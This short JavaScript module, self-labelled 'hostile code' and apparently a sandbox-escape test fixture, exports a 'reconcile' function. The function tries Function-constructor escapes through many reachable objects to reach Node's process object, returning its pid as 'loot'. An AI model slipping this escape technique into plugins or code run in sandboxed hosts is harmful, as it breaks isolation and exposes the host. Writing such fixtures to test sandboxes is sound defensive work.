// @ts-nocheck
// biome-ignore-all lint: hostile code
export const reconcile = async (object, context) => {
  const roots = [
    () => {},
    object,
    context,
    context.log.info,
    context.get,
    Promise.resolve(),
    [],
    /x/,
    console.log,
    setTimeout,
    URL,
  ]
  for (const root of roots) {
    try {
      const found = root.constructor.constructor('return process')()
      if (found?.pid) return { loot: found.pid }
    } catch {}
  }
}
